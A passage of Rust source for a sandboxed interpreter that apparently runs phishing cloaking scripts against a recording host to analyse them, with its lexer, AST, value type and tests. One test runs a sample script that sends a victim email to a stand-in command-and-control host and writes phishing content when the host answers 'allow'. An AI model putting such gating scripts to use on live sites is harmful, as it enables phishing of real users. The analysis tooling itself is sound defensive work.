        let t = ((b[0] as u32) << 16) | ((b[1] as u32) << 8) | b[2] as u32;
        out.push(A[(t >> 18) as usize & 63] as char);
        out.push(A[(t >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 { A[(t >> 6) as usize & 63] as char } else { '=' });
        out.push(if chunk.len() > 2 { A[t as usize & 63] as char } else { '=' });
    }
    out
}

fn b64_decode(text: &str) -> Option<Vec<u8>> {
    let val = |c: u8| -> Option<u8> {
        match c {
            b'A'..=b'Z' => Some(c - b'A'),
            b'a'..=b'z' => Some(c - b'a' + 26),
            b'0'..=b'9' => Some(c - b'0' + 52),
            b'+' => Some(62),
            b'/' => Some(63),
            _ => None,
        }
    };
    let clean: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    let mut out = Vec::new();
    for chunk in clean.chunks(4) {
        if chunk.len() < 2 {
            return None;
        }
        let pad = chunk.iter().filter(|&&c| c == b'=').count();
        let mut t = 0u32;
        for (i, &c) in chunk.iter().enumerate() {
            let v = if c == b'=' { 0 } else { val(c)? };
            t |= (v as u32) << (18 - 6 * i);
        }
        out.push((t >> 16) as u8);
        if pad < 2 && chunk.len() > 2 {
            out.push((t >> 8) as u8);
        }
        if pad == 0 && chunk.len() > 3 {
            out.push(t as u8);
        }
    }
    Some(out)
}

/// A recording, configurable host.
#[derive(Debug, Default)]
pub struct RecordingHost {
    /// `"object.prop"` → value environment.
    env: HashMap<String, Value>,
    /// Canned `fetch` responses: url → body.
    responses: HashMap<String, String>,
    console: Vec<String>,
    writes: Vec<String>,
    fetches: Vec<(String, String)>,
    prop_writes: Vec<(String, String, String)>,
    debugger_hits: usize,
    timers: Vec<f64>,
    navigations: Vec<String>,
    clock: f64,
}

impl RecordingHost {
    /// A host with an empty environment (all properties default to
    /// [`Value::Null`] rather than erroring, as real browsers rarely throw
    /// on unknown properties).
    pub fn new() -> Self {
        Self::default()
    }

    /// Set an environment value, keyed `"object.prop"`
    /// (e.g. `"navigator.userAgent"`, `"intl.timeZone"`).
    pub fn set_env(&mut self, key: &str, value: Value) -> &mut Self {
        self.env.insert(key.to_string(), value);
        self
    }

    /// Provide a canned response body for a `fetch(url, ..)` call.
    pub fn set_response(&mut self, url: &str, body: &str) -> &mut Self {
        self.responses.insert(url.to_string(), body.to_string());
        self
    }

    /// Lines printed through `console.log/warn/error`.
    pub fn console_lines(&self) -> Vec<String> {
        self.console.clone()
    }

    /// Content passed to `document.write`.
    pub fn writes(&self) -> Vec<String> {
        self.writes.clone()
    }

    /// `(url, body)` of every `fetch`.
    pub fn fetches(&self) -> Vec<(String, String)> {
        self.fetches.clone()
    }

    /// `(object, prop, value-as-string)` of every property write.
    pub fn prop_writes(&self) -> Vec<(String, String, String)> {
        self.prop_writes.clone()
    }

    /// Number of `debugger;` statements executed.
    pub fn debugger_hits(&self) -> usize {
        self.debugger_hits
    }

    /// Delays (ms) requested via `setTimeout`/`setInterval`/`sleep`.
    pub fn timer_delays(&self) -> Vec<f64> {
        self.timers.clone()
    }

    /// URLs assigned to `location.href` / passed to `redirect`.
    pub fn navigations(&self) -> Vec<String> {
        self.navigations.clone()
    }
}

const GLOBALS: &[&str] = &[
    "navigator", "console", "document", "window", "location", "screen", "Intl", "Date",
];

impl Host for RecordingHost {
    fn get_prop(&mut self, object: &str, prop: &str) -> Result<Value, ScriptError> {
        let key = format!("{object}.{prop}");
        if let Some(v) = self.env.get(&key) {
            return Ok(v.clone());
        }
        // Browser-realistic defaults.
        Ok(match key.as_str() {
            "navigator.webdriver" => Value::Bool(false),
            "navigator.userAgent" => Value::from("Mozilla/5.0"),
            "navigator.language" | "navigator.userLanguage" => Value::from("en-US"),
            "screen.width" => Value::Num(1920.0),
            "screen.height" => Value::Num(1080.0),
            "location.href" => Value::from("about:blank"),
            "document.referrer" => Value::from(""),
            _ => Value::Null,
        })
    }

    fn set_prop(&mut self, object: &str, prop: &str, value: Value) -> Result<(), ScriptError> {
        if object == "location" && prop == "href" {
            self.navigations.push(value.as_str());
        }
        self.prop_writes
            .push((object.to_string(), prop.to_string(), value.as_str()));
        self.env.insert(format!("{object}.{prop}"), value);
        Ok(())
    }

    fn call_method(
        &mut self,
        object: &str,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ScriptError> {
        match (object, method) {
            ("console", "log") | ("console", "warn") | ("console", "error")
            | ("console", "info") | ("console", "debug") => {
                let line = args
                    .iter()
                    .map(Value::as_str)
                    .collect::<Vec<_>>()
                    .join(" ");
                self.console.push(line);
                Ok(Value::Null)
            }
            ("document", "write") => {
                self.writes
                    .push(args.first().map(Value::as_str).unwrap_or_default());
                Ok(Value::Null)
            }
            ("document", "addEventListener") | ("window", "addEventListener") => Ok(Value::Null),
            ("document", "getElementById") | ("document", "querySelector") => {
                Ok(Value::Ref(format!(
                    "element:{}",
                    args.first().map(Value::as_str).unwrap_or_default()
                )))
            }
            ("Intl", "DateTimeFormat") => Ok(Value::Ref("intlDTF".to_string())),
            ("intlDTF", "resolvedOptions") => Ok(Value::Ref("intl".to_string())),
            ("Date", "now") => {
                self.clock += 1.0;
                Ok(Value::Num(self.clock))
            }
            (obj, m) if obj.starts_with("element:") => {
                // element methods are inert in the recording host
                let _ = m;
                Ok(Value::Null)
            }
            (obj, m) => Err(ScriptError::UnknownFunction(format!("{obj}.{m}"))),
        }
    }

    fn call_global(&mut self, func: &str, args: &[Value]) -> Result<Value, ScriptError> {
        match func {
            "fetch" => {
                let url = args.first().map(Value::as_str).unwrap_or_default();
                let body = args.get(1).map(Value::as_str).unwrap_or_default();
                let response = self.responses.get(&url).cloned().unwrap_or_default();
                self.fetches.push((url, body));
                Ok(Value::Str(response))
            }
            "redirect" => {
                let url = args.first().map(Value::as_str).unwrap_or_default();
                self.navigations.push(url);
                Ok(Value::Null)
            }
            "atob" => {
                let input = args.first().map(Value::as_str).unwrap_or_default();
                let decoded = b64_decode(&input).ok_or_else(|| {
                    ScriptError::TypeError("atob: invalid base64".to_string())
                })?;
                Ok(Value::Str(String::from_utf8_lossy(&decoded).into_owned()))
            }
            "btoa" => {
                let input = args.first().map(Value::as_str).unwrap_or_default();
                Ok(Value::Str(b64_encode(input.as_bytes())))
            }
            "setTimeout" | "setInterval" | "sleep" => {
                // The delay is the *last* numeric arg in JS signatures.
                let delay = args
                    .iter()
                    .rev()
                    .find_map(Value::as_num)
                    .unwrap_or(0.0);
                self.timers.push(delay);
                Ok(Value::Num(self.timers.len() as f64))
            }
            "parseInt" | "Number" => Ok(args
                .first()
                .and_then(Value::as_num)
                .map(|n| Value::Num(n.trunc()))
                .unwrap_or(Value::Null)),
            "String" => Ok(Value::Str(
                args.first().map(Value::as_str).unwrap_or_default(),
            )),
            "encodeURIComponent" => {
                let input = args.first().map(Value::as_str).unwrap_or_default();
                let mut out = String::new();
                for b in input.bytes() {
                    if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
                        out.push(b as char);
                    } else {
                        out.push_str(&format!("%{b:02X}"));
                    }
                }
                Ok(Value::Str(out))
            }
            "isEmailValid" => {
                // The victim-check regex the paper saw, as a host helper.
                let s = args.first().map(Value::as_str).unwrap_or_default();
                let ok = s.split_once('@').map(|(l, d)| {
                    !l.is_empty() && d.contains('.') && !d.starts_with('.') && !d.ends_with('.')
                });
                Ok(Value::Bool(ok.unwrap_or(false)))
            }
            other => Err(ScriptError::UnknownFunction(other.to_string())),
        }
    }

    fn global(&mut self, name: &str) -> Option<Value> {
        if GLOBALS.contains(&name) {
            Some(Value::Ref(name.to_string()))
        } else {
            None
        }
    }

    fn debugger_hit(&mut self) {
        self.debugger_hits += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{run, Script};

    #[test]
    fn defaults_are_browser_like() {
        let mut h = RecordingHost::new();
        let s = Script::parse(
            "console.log(navigator.language); console.log(screen.width); console.log(navigator.webdriver);",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["en-US", "1920", "false"]);
    }

    #[test]
    fn canned_fetch_response() {
        let mut h = RecordingHost::new();
        h.set_response("https://c2.example/check", "allow");
        let s = Script::parse(
            "var r = fetch('https://c2.example/check', 'victim@corp.example'); if (r == 'allow') { document.write('phish'); }",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.writes(), ["phish"]);
    }

    #[test]
    fn location_navigation_recorded() {
        let mut h = RecordingHost::new();
        let s = Script::parse("location.href = 'https://landing.example/';").unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.navigations(), ["https://landing.example/"]);
    }

    #[test]
    fn timers_record_delays() {
        let mut h = RecordingHost::new();
        let s = Script::parse("setTimeout('cb', 4000); setInterval('cb', 1000);").unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.timer_delays(), [4000.0, 1000.0]);
    }

    #[test]
    fn b64_helpers_round_trip() {
        for case in ["", "a", "ab", "abc", "hello world", "ünïcode"] {
            let enc = b64_encode(case.as_bytes());
            assert_eq!(b64_decode(&enc).unwrap(), case.as_bytes(), "{case}");
        }
        assert!(b64_decode("!!!").is_none());
    }

    #[test]
    fn email_validation_helper() {
        let mut h = RecordingHost::new();
        let s = Script::parse(
            "console.log(isEmailValid('a@b.example')); console.log(isEmailValid('junk'));",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["true", "false"]);
    }

    #[test]
    fn date_now_is_monotonic() {
        let mut h = RecordingHost::new();
        let s = Script::parse(
            "var t0 = Date.now(); debugger; var t1 = Date.now(); console.log(t1 > t0);",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["true"]);
        assert_eq!(h.debugger_hits(), 1);
    }

    #[test]
    fn encode_uri_component() {
        let mut h = RecordingHost::new();
        let s = Script::parse("console.log(encodeURIComponent('a b@c.example/x'));").unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["a%20b%40c.example%2Fx"]);
    }

    #[test]
    fn unknown_global_function_errors() {
        let mut h = RecordingHost::new();
        let s = Script::parse("explode();").unwrap();
        assert!(matches!(
            run(&s, &mut h),
            Err(ScriptError::UnknownFunction(_))
        ));
    }
}
