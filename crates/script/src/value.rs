//! MJS runtime values.

use std::fmt;

/// A runtime value. `Ref` names a host object (e.g. `"navigator"`, or an
//  anonymous handle minted by a host method); all property/method semantics
/// on refs are delegated to the [`crate::Host`].
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null` / `undefined`.
    Null,
    /// Boolean.
    Bool(bool),
    /// Number (f64, like JS).
    Num(f64),
    /// String.
    Str(String),
    /// Handle to a host object.
    Ref(String),
}

impl Value {
    /// JS-style truthiness.
    pub fn truthy(&self) -> bool {
        match self {
            Value::Null => false,
            Value::Bool(b) => *b,
            Value::Num(n) => *n != 0.0 && !n.is_nan(),
            Value::Str(s) => !s.is_empty(),
            Value::Ref(_) => true,
        }
    }

    /// Coerce to a display string (JS `String(x)` semantics, simplified).
    pub fn as_str(&self) -> String {
        match self {
            Value::Null => "null".to_string(),
            Value::Bool(b) => b.to_string(),
            Value::Num(n) => {
                if n.fract() == 0.0 && n.abs() < 1e15 {
                    format!("{}", *n as i64)
                } else {
                    format!("{n}")
                }
            }
            Value::Str(s) => s.clone(),
            Value::Ref(tag) => format!("[object {tag}]"),
        }
    }

    /// Numeric coercion; `None` when not meaningfully numeric.
    pub fn as_num(&self) -> Option<f64> {
        match self {
            Value::Num(n) => Some(*n),
            Value::Bool(b) => Some(if *b { 1.0 } else { 0.0 }),
            Value::Str(s) => s.trim().parse().ok(),
            _ => None,
        }
    }

    /// Loose equality (`==`), close enough to JS for cloaking scripts:
    /// same-type compares directly; numbers and numeric strings compare
    /// numerically; null only equals null.
    pub fn loose_eq(&self, other: &Value) -> bool {
        match (self, other) {
            (Value::Null, Value::Null) => true,
            (Value::Str(a), Value::Str(b)) => a == b,
            (Value::Bool(a), Value::Bool(b)) => a == b,
            (Value::Num(a), Value::Num(b)) => a == b,
            (Value::Ref(a), Value::Ref(b)) => a == b,
            (Value::Num(_), Value::Str(_)) | (Value::Str(_), Value::Num(_)) => {
                match (self.as_num(), other.as_num()) {
                    (Some(a), Some(b)) => a == b,
                    _ => false,
                }
            }
            (Value::Bool(_), _) | (_, Value::Bool(_)) => {
                match (self.as_num(), other.as_num()) {
                    (Some(a), Some(b)) => a == b,
                    _ => false,
                }
            }
            _ => false,
        }
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.as_str())
    }
}

impl From<&str> for Value {
    fn from(s: &str) -> Self {
        Value::Str(s.to_string())
    }
}

impl From<String> for Value {
    fn from(s: String) -> Self {
        Value::Str(s)
    }
}

impl From<f64> for Value {
    fn from(n: f64) -> Self {
        Value::Num(n)
    }
}

impl From<bool> for Value {
    fn from(b: bool) -> Self {
        Value::Bool(b)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn truthiness() {
        assert!(!Value::Null.truthy());
        assert!(!Value::Bool(false).truthy());
        assert!(!Value::Num(0.0).truthy());
        assert!(!Value::Str(String::new()).truthy());
        assert!(Value::Num(-1.0).truthy());
        assert!(Value::Str("x".into()).truthy());
        assert!(Value::Ref("navigator".into()).truthy());
    }

    #[test]
    fn string_coercion() {
        assert_eq!(Value::Num(42.0).as_str(), "42");
        assert_eq!(Value::Num(2.5).as_str(), "2.5");
        assert_eq!(Value::Bool(true).as_str(), "true");
        assert_eq!(Value::Null.as_str(), "null");
        assert_eq!(Value::Ref("console".into()).as_str(), "[object console]");
    }

    #[test]
    fn numeric_coercion() {
        assert_eq!(Value::Str(" 12 ".into()).as_num(), Some(12.0));
        assert_eq!(Value::Bool(true).as_num(), Some(1.0));
        assert_eq!(Value::Null.as_num(), None);
        assert_eq!(Value::Str("abc".into()).as_num(), None);
    }

    #[test]
    fn loose_equality() {
        assert!(Value::Num(5.0).loose_eq(&Value::Str("5".into())));
        assert!(Value::Bool(true).loose_eq(&Value::Num(1.0)));
        assert!(!Value::Null.loose_eq(&Value::Num(0.0)));
        assert!(Value::Null.loose_eq(&Value::Null));
        assert!(!Value::Str("a".into()).loose_eq(&Value::Str("b".into())));
    }
}
