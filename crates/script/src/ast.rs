//! MJS abstract syntax tree.

use crate::parser::{parse, ParseError};

/// Binary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinOp {
    /// `+` (numeric add or string concatenation).
    Add,
    /// `-`.
    Sub,
    /// `*`.
    Mul,
    /// `/`.
    Div,
    /// `%`.
    Mod,
    /// `==`.
    Eq,
    /// `!=`.
    Ne,
    /// `<`.
    Lt,
    /// `<=`.
    Le,
    /// `>`.
    Gt,
    /// `>=`.
    Ge,
    /// `&&` (short-circuit).
    And,
    /// `||` (short-circuit).
    Or,
}

/// Expressions.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// Literal number.
    Number(f64),
    /// Literal string.
    Str(String),
    /// Literal boolean.
    Bool(bool),
    /// `null` / `undefined`.
    Null,
    /// Variable or global-object reference.
    Ident(String),
    /// `target.prop`.
    Member {
        /// The object expression.
        object: Box<Expr>,
        /// Property name.
        prop: String,
    },
    /// `callee(args...)` where callee is an identifier or member chain.
    Call {
        /// Function expression (ident or member).
        callee: Box<Expr>,
        /// Arguments.
        args: Vec<Expr>,
    },
    /// Binary operation.
    Binary {
        /// Operator.
        op: BinOp,
        /// Left operand.
        lhs: Box<Expr>,
        /// Right operand.
        rhs: Box<Expr>,
    },
    /// `!expr`.
    Not(Box<Expr>),
    /// `-expr`.
    Neg(Box<Expr>),
}

/// Statements.
#[derive(Debug, Clone, PartialEq)]
pub enum Stmt {
    /// `var name = init;`
    VarDecl {
        /// Variable name.
        name: String,
        /// Initializer (defaults to null when omitted).
        init: Expr,
    },
    /// `name = value;` or `obj.prop = value;`
    Assign {
        /// Assignment target (ident or member).
        target: Expr,
        /// New value.
        value: Expr,
    },
    /// Expression evaluated for effect.
    Expr(Expr),
    /// `if (cond) { .. } else { .. }`
    If {
        /// Condition.
        cond: Expr,
        /// Then-branch.
        then_branch: Vec<Stmt>,
        /// Else-branch (possibly empty).
        else_branch: Vec<Stmt>,
    },
    /// `while (cond) { .. }` (interpreter-bounded).
    While {
        /// Loop condition.
        cond: Expr,
        /// Body.
        body: Vec<Stmt>,
    },
    /// `debugger;`
    Debugger,
}

/// A parsed MJS program.
#[derive(Debug, Clone, PartialEq)]
pub struct Script {
    /// Top-level statements.
    pub stmts: Vec<Stmt>,
}

impl Script {
    /// Parse MJS source.
    ///
    /// # Errors
    ///
    /// Returns [`ParseError`] on lexical or syntactic failure.
    pub fn parse(src: &str) -> Result<Script, ParseError> {
        parse(src)
    }

    /// Rough complexity measure: total statement count including nested
    /// bodies (used by analysis heuristics).
    pub fn stmt_count(&self) -> usize {
        fn count(stmts: &[Stmt]) -> usize {
            stmts
                .iter()
                .map(|s| match s {
                    Stmt::If {
                        then_branch,
                        else_branch,
                        ..
                    } => 1 + count(then_branch) + count(else_branch),
                    Stmt::While { body, .. } => 1 + count(body),
                    _ => 1,
                })
                .sum()
        }
        count(&self.stmts)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stmt_count_counts_nested() {
        let s = Script::parse("var a = 1; if (a) { a = 2; while (a) { a = 0; } }").unwrap();
        assert_eq!(s.stmt_count(), 5);
    }
}
