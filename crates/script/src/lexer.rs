//! MJS tokenizer.

use std::fmt;

/// A lexical token.
#[derive(Debug, Clone, PartialEq)]
pub enum Token {
    /// Identifier or keyword.
    Ident(String),
    /// Numeric literal (f64 semantics like JS).
    Number(f64),
    /// String literal (single- or double-quoted, `\\`-escapes).
    Str(String),
    /// `var` / `let`.
    Var,
    /// `if`.
    If,
    /// `else`.
    Else,
    /// `while`.
    While,
    /// `true`.
    True,
    /// `false`.
    False,
    /// `null` / `undefined`.
    Null,
    /// `debugger`.
    Debugger,
    /// `(`.
    LParen,
    /// `)`.
    RParen,
    /// `{`.
    LBrace,
    /// `}`.
    RBrace,
    /// `;`.
    Semi,
    /// `,`.
    Comma,
    /// `.`.
    Dot,
    /// `=`.
    Assign,
    /// `==` (and `===`, treated identically).
    Eq,
    /// `!=` (and `!==`).
    Ne,
    /// `<`.
    Lt,
    /// `<=`.
    Le,
    /// `>`.
    Gt,
    /// `>=`.
    Ge,
    /// `+`.
    Plus,
    /// `-`.
    Minus,
    /// `*`.
    Star,
    /// `/`.
    Slash,
    /// `%`.
    Percent,
    /// `!`.
    Not,
    /// `&&`.
    And,
    /// `||`.
    Or,
}

/// A lexing failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LexError {
    /// Byte offset of the offending character.
    pub at: usize,
    /// Description.
    pub message: String,
}

impl fmt::Display for LexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "lex error at byte {}: {}", self.at, self.message)
    }
}

impl std::error::Error for LexError {}

/// Tokenize MJS source. `//` line comments and `/* */` block comments are
/// skipped.
pub fn lex(src: &str) -> Result<Vec<Token>, LexError> {
    let bytes = src.as_bytes();
    let mut out = Vec::new();
    let mut i = 0usize;
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            b' ' | b'\t' | b'\r' | b'\n' => i += 1,
            b'/' if bytes.get(i + 1) == Some(&b'/') => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if bytes.get(i + 1) == Some(&b'*') => {
                let start = i;
                i += 2;
                loop {
                    if i + 1 >= bytes.len() {
                        return Err(LexError {
                            at: start,
                            message: "unterminated block comment".into(),
                        });
                    }
                    if bytes[i] == b'*' && bytes[i + 1] == b'/' {
                        i += 2;
                        break;
                    }
                    i += 1;
                }
            }
            b'"' | b'\'' => {
                let quote = b;
                let start = i;
                i += 1;
                let mut s = String::new();
                loop {
                    if i >= bytes.len() {
                        return Err(LexError {
                            at: start,
                            message: "unterminated string".into(),
                        });
                    }
                    let c = bytes[i];
                    if c == quote {
                        i += 1;
                        break;
                    }
                    if c == b'\\' {
                        i += 1;
                        match bytes.get(i) {
                            Some(b'n') => {
                                s.push('\n');
                                i += 1;
                            }
                            Some(b't') => {
                                s.push('\t');
                                i += 1;
                            }
                            Some(b'r') => {
                                s.push('\r');
                                i += 1;
                            }
                            Some(_) => {
                                // any other escaped character passes through
                                // verbatim (may be multi-byte UTF-8)
                                let ch = src[i..].chars().next().expect("in-bounds char");
                                s.push(ch);
                                i += ch.len_utf8();
                            }
                            None => {
                                return Err(LexError {
                                    at: start,
                                    message: "unterminated escape".into(),
                                })
                            }
                        }
                    } else {
                        // pass through UTF-8 bytes verbatim
                        let ch_len = utf8_len(c);
                        s.push_str(&src[i..i + ch_len]);
                        i += ch_len;
                    }
                }
                out.push(Token::Str(s));
            }
            b'0'..=b'9' => {
                let start = i;
                while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
                    i += 1;
                }
                let text = &src[start..i];
                let n = text.parse::<f64>().map_err(|_| LexError {
                    at: start,
                    message: format!("bad number literal {text:?}"),
                })?;
                out.push(Token::Number(n));
            }
            b'A'..=b'Z' | b'a'..=b'z' | b'_' | b'$' => {
                let start = i;
                while i < bytes.len()
                    && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_' || bytes[i] == b'$')
                {
                    i += 1;
                }
                out.push(match &src[start..i] {
                    "var" | "let" | "const" => Token::Var,
                    "if" => Token::If,
                    "else" => Token::Else,
                    "while" => Token::While,
                    "true" => Token::True,
                    "false" => Token::False,
                    "null" | "undefined" => Token::Null,
                    "debugger" => Token::Debugger,
                    ident => Token::Ident(ident.to_string()),
                });
            }
            b'(' => {
                out.push(Token::LParen);
                i += 1;
            }
            b')' => {
                out.push(Token::RParen);
                i += 1;
            }
            b'{' => {
                out.push(Token::LBrace);
                i += 1;
            }
            b'}' => {
                out.push(Token::RBrace);
                i += 1;
            }
            b';' => {
                out.push(Token::Semi);
                i += 1;
            }
            b',' => {
                out.push(Token::Comma);
                i += 1;
            }
            b'.' => {
                out.push(Token::Dot);
                i += 1;
            }
            b'=' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    i += if bytes.get(i + 2) == Some(&b'=') { 3 } else { 2 };
                    out.push(Token::Eq);
                } else {
                    out.push(Token::Assign);
                    i += 1;
                }
            }
            b'!' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    i += if bytes.get(i + 2) == Some(&b'=') { 3 } else { 2 };
                    out.push(Token::Ne);
                } else {
                    out.push(Token::Not);
                    i += 1;
                }
            }
            b'<' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    out.push(Token::Le);
                    i += 2;
                } else {
                    out.push(Token::Lt);
                    i += 1;
                }
            }
            b'>' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    out.push(Token::Ge);
                    i += 2;
                } else {
                    out.push(Token::Gt);
                    i += 1;
                }
            }
            b'+' => {
                out.push(Token::Plus);
                i += 1;
            }
            b'-' => {
                out.push(Token::Minus);
                i += 1;
            }
            b'*' => {
                out.push(Token::Star);
                i += 1;
            }
            b'/' => {
                out.push(Token::Slash);
                i += 1;
            }
            b'%' => {
                out.push(Token::Percent);
                i += 1;
            }
            b'&' if bytes.get(i + 1) == Some(&b'&') => {
                out.push(Token::And);
                i += 2;
            }
            b'|' if bytes.get(i + 1) == Some(&b'|') => {
                out.push(Token::Or);
                i += 2;
            }
            other => {
                return Err(LexError {
                    at: i,
                    message: format!("unexpected character {:?}", other as char),
                })
            }
        }
    }
    Ok(out)
}

fn utf8_len(first: u8) -> usize {
    match first {
        0x00..=0x7F => 1,
        0xC0..=0xDF => 2,
        0xE0..=0xEF => 3,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keywords_and_idents() {
        let t = lex("var x = navigator").unwrap();
        assert_eq!(
            t,
            vec![
                Token::Var,
                Token::Ident("x".into()),
                Token::Assign,
                Token::Ident("navigator".into())
            ]
        );
    }

    #[test]
    fn let_and_const_fold_to_var() {
        assert_eq!(lex("let a; const b;").unwrap()[0], Token::Var);
        assert_eq!(lex("const b;").unwrap()[0], Token::Var);
    }

    #[test]
    fn strings_with_escapes() {
        let t = lex(r#"'a\'b' "c\nd""#).unwrap();
        assert_eq!(t, vec![Token::Str("a'b".into()), Token::Str("c\nd".into())]);
    }

    #[test]
    fn unicode_string_content() {
        let t = lex("\"héllo ✓\"").unwrap();
        assert_eq!(t, vec![Token::Str("héllo ✓".into())]);
    }

    #[test]
    fn numbers() {
        let t = lex("0 42 3.25").unwrap();
        assert_eq!(
            t,
            vec![Token::Number(0.0), Token::Number(42.0), Token::Number(3.25)]
        );
    }

    #[test]
    fn comparison_operators() {
        let t = lex("a == b != c === d !== e <= >= < >").unwrap();
        assert!(t.contains(&Token::Eq));
        assert!(t.contains(&Token::Ne));
        assert_eq!(t.iter().filter(|t| **t == Token::Eq).count(), 2);
        assert_eq!(t.iter().filter(|t| **t == Token::Ne).count(), 2);
    }

    #[test]
    fn comments_are_skipped() {
        let t = lex("a // line comment\n/* block\ncomment */ b").unwrap();
        assert_eq!(
            t,
            vec![Token::Ident("a".into()), Token::Ident("b".into())]
        );
    }

    #[test]
    fn unterminated_string_errors() {
        assert!(lex("'oops").is_err());
        assert!(lex("/* oops").is_err());
    }

    #[test]
    fn unexpected_character_errors() {
        let e = lex("a ~ b").unwrap_err();
        assert!(e.message.contains("unexpected"));
    }

    #[test]
    fn logical_operators() {
        let t = lex("a && b || !c").unwrap();
        assert!(t.contains(&Token::And));
        assert!(t.contains(&Token::Or));
        assert!(t.contains(&Token::Not));
    }
}
