//! The MJS tree-walking interpreter and the [`Host`] boundary.

use crate::ast::{BinOp, Expr, Script, Stmt};
use crate::value::Value;
use std::collections::HashMap;
use std::fmt;

/// Execution-step budget: a cloaking script that spins (the paper's
/// `debugger`-timer loops) cannot wedge the crawler.
pub const MAX_STEPS: usize = 100_000;

/// Errors surfaced during execution.
#[derive(Debug, Clone, PartialEq)]
pub enum ScriptError {
    /// Reference to an undeclared variable (and not a host global).
    UndefinedVariable(String),
    /// Property read the host does not provide.
    UnknownProperty {
        /// The host object.
        object: String,
        /// The property.
        prop: String,
    },
    /// Call the host does not provide.
    UnknownFunction(String),
    /// A non-callable or non-object value was used as one.
    TypeError(String),
    /// The step budget was exhausted.
    BudgetExhausted,
    /// The host aborted execution (e.g. navigation happened).
    HostAbort(String),
}

impl fmt::Display for ScriptError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ScriptError::UndefinedVariable(n) => write!(f, "undefined variable {n}"),
            ScriptError::UnknownProperty { object, prop } => {
                write!(f, "unknown property {object}.{prop}")
            }
            ScriptError::UnknownFunction(n) => write!(f, "unknown function {n}"),
            ScriptError::TypeError(m) => write!(f, "type error: {m}"),
            ScriptError::BudgetExhausted => write!(f, "script step budget exhausted"),
            ScriptError::HostAbort(m) => write!(f, "host aborted: {m}"),
        }
    }
}

impl std::error::Error for ScriptError {}

/// The environment a script runs against. The browser (or a test double)
/// implements this; every observable action a phishing script can take goes
/// through here.
pub trait Host {
    /// Read `object.prop` (e.g. `("navigator", "userAgent")`). Dotted
    /// object paths occur for chained handles the host minted.
    fn get_prop(&mut self, object: &str, prop: &str) -> Result<Value, ScriptError>;

    /// Write `object.prop = value` (e.g. console hijacking, `location.href`).
    fn set_prop(&mut self, object: &str, prop: &str, value: Value) -> Result<(), ScriptError>;

    /// Call `object.method(args)` (e.g. `console.log`, `document.write`).
    fn call_method(
        &mut self,
        object: &str,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ScriptError>;

    /// Call a bare global function (e.g. `fetch`, `atob`, `setInterval`).
    fn call_global(&mut self, func: &str, args: &[Value]) -> Result<Value, ScriptError>;

    /// A bare identifier that is not a declared variable: hosts expose
    /// global objects (`navigator`, `console`, `document`, `window`, …) by
    /// returning `Value::Ref`.
    fn global(&mut self, name: &str) -> Option<Value>;

    /// A `debugger;` statement executed (anti-analysis timing probes hook
    /// this).
    fn debugger_hit(&mut self) {}
}

/// Run `script` against `host`.
///
/// # Errors
///
/// Propagates [`ScriptError`] from evaluation or the host.
pub fn run(script: &Script, host: &mut dyn Host) -> Result<(), ScriptError> {
    let mut interp = Interp {
        vars: HashMap::new(),
        steps: 0,
    };
    interp.exec_block(&script.stmts, host)
}

struct Interp {
    vars: HashMap<String, Value>,
    steps: usize,
}

impl Interp {
    fn tick(&mut self) -> Result<(), ScriptError> {
        self.steps += 1;
        if self.steps > MAX_STEPS {
            Err(ScriptError::BudgetExhausted)
        } else {
            Ok(())
        }
    }

    fn exec_block(&mut self, stmts: &[Stmt], host: &mut dyn Host) -> Result<(), ScriptError> {
        for stmt in stmts {
            self.exec(stmt, host)?;
        }
        Ok(())
    }

    fn exec(&mut self, stmt: &Stmt, host: &mut dyn Host) -> Result<(), ScriptError> {
        self.tick()?;
        match stmt {
            Stmt::VarDecl { name, init } => {
                let v = self.eval(init, host)?;
                self.vars.insert(name.clone(), v);
            }
            Stmt::Assign { target, value } => {
                let v = self.eval(value, host)?;
                match target {
                    Expr::Ident(name) => {
                        // JS semantics: assignment creates/overwrites.
                        self.vars.insert(name.clone(), v);
                    }
                    Expr::Member { object, prop } => {
                        let obj = self.eval(object, host)?;
                        let Value::Ref(tag) = obj else {
                            return Err(ScriptError::TypeError(format!(
                                "cannot set property on {obj}"
                            )));
                        };
                        host.set_prop(&tag, prop, v)?;
                    }
                    _ => unreachable!("parser validates assignment targets"),
                }
            }
            Stmt::Expr(e) => {
                self.eval(e, host)?;
            }
            Stmt::If {
                cond,
                then_branch,
                else_branch,
            } => {
                if self.eval(cond, host)?.truthy() {
